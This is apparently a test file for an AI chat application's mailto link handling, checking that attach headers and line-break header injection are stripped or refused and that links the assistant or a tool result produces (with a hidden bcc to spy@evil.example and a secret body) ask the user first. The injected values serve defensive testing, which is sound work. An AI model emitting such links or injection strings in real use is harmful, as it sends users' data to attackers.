import { expect, onTestFinished, test } from 'vitest';
import { mailLink } from '../../src-main/base/mail-link.ts';
import { startMessagesApi } from '../fixtures/messages-api/server.ts';
import { seededRandom } from '../fixtures/random.ts';
import { repetitions } from '../fixtures/repetitions.ts';
import { WindowRig } from '../fixtures/window-rig.ts';

const HEADERS = [
  'attach',
  'attachment',
  'ATTACH',
  '%61ttach',
  'from',
  'reply-to',
  'x-mailer',
  'in-reply-to',
  'amp;attach',
  'att%61ch',
  'to%20',
  'insert',
  'Content-Type',
  'resent-to',
  '',
]; // prettier-ignore
const BREAKS = ['%0a', '%0d', '%0D%0A', '%00', '%E2%80%A8', '%E2%80%A9', '%c2%85', '%0b', '%0c'];
const linkOf = (text: string) => mailLink(new URL(text));

test.each(HEADERS)('the header "%s" is dropped', (name) => {
  const { href, to } = linkOf(`mailto:boss@firm.example?${name}=/etc/hostname&subject=x`);
  expect(href).toBe('mailto:boss@firm.example?subject=x');
  expect(to).toEqual(['boss@firm.example']);
});

test.each(BREAKS)('the line break %s is refused in a header, and may be in the text', (lineBreak) => {
  for (const place of [
    `mailto:a@b.example${lineBreak}?x`,
    ...['to', 'cc', 'bcc', 'subject', 'CC', '%63c'].map(
      (name) => `mailto:a@b.example?${name}=x${lineBreak}Bcc:evil@x.example`,
    ),
  ]) // prettier-ignore
    expect(() => linkOf(place)).toThrow('line break');
  expect(linkOf(`mailto:a@b.example?body=x${lineBreak}y`).body).toContain('y');
});

test('generated links: every recipient that a mail program could see is shown, and nothing but the five is kept', () => {
  const random = seededRandom(31);
  const pick = (list: readonly string[]) => list[Math.floor(random() * list.length)] ?? '';
  const encoded = (text: string) =>
    [...text].map((c) => (random() < 0.3 && /[a-z@.]/.test(c) ? `%${c.charCodeAt(0).toString(16)}` : c)).join('');
  for (let made = 0; made < repetitions(300, 20_000); made++) {
    const fields = Array.from({ length: 1 + Math.floor(random() * 6) }, (_, at) => {
      const name = pick(['to', 'cc', 'bcc', 'subject', 'body', ...HEADERS]);
      return { name: random() < 0.3 ? name.toUpperCase() : name, value: `p${at}@x.example` };
    });
    const link = linkOf(
      `mailto:boss@firm.example?${fields.map(({ name, value }) => `${name.includes('%') ? name : encoded(name)}=${encoded(value)}`).join('&')}`,
    ); // prettier-ignore
    const again = linkOf(link.href);
    expect(again).toEqual(link);
    for (const { name, value } of fields) {
      const kind = name.toLowerCase();
      const shown = [link.to, link.cc, link.bcc, [link.subject], [link.body]].flat().join(' ').includes(value);
      expect(shown, `${name}: ${link.href}`).toBe(['to', 'cc', 'bcc', 'subject', 'body'].includes(kind));
    }
    expect(
      [...new URL(link.href).searchParams.keys()].filter((key) => !['cc', 'bcc', 'subject', 'body'].includes(key)),
    ).toEqual([]); // prettier-ignore
  }
});

const WRITTEN = 'mailto:boss@firm.example?bcc=spy@evil.example&attach=/etc/hostname&subject=Hi&body=The%20secret';

test('a link to write a mail that only the assistant wrote asks, and shows who gets what', async () => {
  const api = await startMessagesApi({ turns: [{ text: `[boss@firm.example](${WRITTEN})` }] });
  onTestFinished(() => api.close());
  const rig = new WindowRig({ env: { ANTHROPIC_BASE_URL: api.url, ANTHROPIC_API_KEY: 'sk-ant-api03-fixture' } });
  const { id } = await rig.turn('write to ada@example.com');

  const opening = rig.code('conversations.openLink', { id, url: WRITTEN });
  const card = await rig.answer({ answer: 'deny' });
  expect(card).toMatchObject({
    kind: 'link',
    parts: [
      { title: 'To', text: 'boss@firm.example' },
      { text: 'spy@evil.example' },
      { title: 'Subject', text: 'Hi' },
      { title: 'Text', text: 'The secret' },
    ],
  });
  expect(await opening).toBe('ok');
  expect(rig.opened).toEqual([]);

  const allowed = rig.code('conversations.openLink', { id, url: WRITTEN });
  await rig.answer({ answer: 'once' });
  expect(await allowed).toBe('ok');
  expect(rig.opened).toEqual(['mailto:boss@firm.example?bcc=spy@evil.example&subject=Hi&body=The%20secret']);

  // The control: an address that the user wrote.
  expect(await rig.code('conversations.openLink', { id, url: 'mailto:ada@example.com' })).toBe('ok');
  expect(await rig.code('conversations.openLink', { id, url: 'mailto:ada@example.com?bcc=x%0ay@z.example' })).toBe(
    'refused_url',
  );
  expect(rig.opened.slice(1)).toEqual(['mailto:ada@example.com']);
});

const DECODED = WRITTEN.replace('&attach=/etc/hostname', '');
const escapes = [...DECODED].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const use = (name: string, input: unknown) => ({ blocks: [{ type: 'tool_use', name, input } as const] });

test.each([
  ['decoded by a tool', [use('parse_json', { json: `["${escapes}"]` })]],
  ['taken out of an object by a tool', [use('query_json', { json: `{"a":"${escapes}"}`, path: '$.a' })]],
  [
    'completed by an edit of a file',
    [
      use('write_file', { file_path: 'a.md', content: DECODED.replace('bcc', 'b_c') }),
      use('edit', { file_path: 'a.md', old_string: 'b_c', new_string: 'bcc' }),
      use('read_file', { path: 'a.md' }),
    ],
  ],
  ['in the user’s own file', [use('read_file', { path: 'links.md' })]],
])('a link to write a mail that a tool’s result has asks too: %s', async (_, calls) => {
  const api = await startMessagesApi({ turns: [...calls, { text: `[boss@firm.example](${DECODED})` }] });
  onTestFinished(() => api.close());
  const env = { ANTHROPIC_BASE_URL: api.url, ANTHROPIC_API_KEY: 'sk-ant-api03-fixture' };
  const rig = new WindowRig({ env, files: { 'links.md': DECODED } });
  const running = rig.turn('write to my boss');
  for (const _ of calls.filter(({ blocks }) => blocks.some(({ name }) => /^(?:write_file|edit)$/.test(name))))
    await rig.answer({ answer: 'once' });
  const { id } = await running;
  const opening = rig.code('conversations.openLink', { id, url: DECODED });
  expect(await rig.answer({ answer: 'deny' })).toMatchObject({ kind: 'link' });
  expect(await opening).toBe('ok');
  expect(rig.opened).toEqual([]);
});
